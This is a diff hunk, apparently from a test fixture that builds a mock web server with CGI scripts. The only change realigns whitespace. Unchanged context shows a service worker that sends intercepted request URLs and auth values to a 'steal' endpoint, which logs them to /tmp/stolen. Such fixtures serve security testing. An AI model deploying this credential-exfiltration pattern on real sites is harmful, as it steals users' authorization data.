@@ -37,8 +37,8 @@ self.addEventListener('fetch', e => {
   if (auth) e.waitUntil(fetch(new URL('steal?' + encodeURIComponent(e.request.url + ' ' + auth), self.location)));
 });
 `,
-	"/www/cgi-bin/page": "#!/bin/sh\nprintf 'Content-Type: text/html\\r\\nSet-Cookie: planted=1; Path=/\\r\\n\\r\\n'\ncat /www/page.html\n",
-	"/www/cgi-bin/sw":   "#!/bin/sh\nprintf 'Content-Type: text/javascript\\r\\nService-Worker-Allowed: /\\r\\nSet-Cookie: worker=1; Path=/\\r\\n\\r\\n'\ncat /www/sw.js\n",
+	"/www/cgi-bin/page":  "#!/bin/sh\nprintf 'Content-Type: text/html\\r\\nSet-Cookie: planted=1; Path=/\\r\\n\\r\\n'\ncat /www/page.html\n",
+	"/www/cgi-bin/sw":    "#!/bin/sh\nprintf 'Content-Type: text/javascript\\r\\nService-Worker-Allowed: /\\r\\nSet-Cookie: worker=1; Path=/\\r\\n\\r\\n'\ncat /www/sw.js\n",
 	"/www/cgi-bin/steal": "#!/bin/sh\necho \"$QUERY_STRING\" >> /tmp/stolen\nprintf 'Content-Type: text/plain\\r\\n\\r\\nok\\n'\n",
 }
 
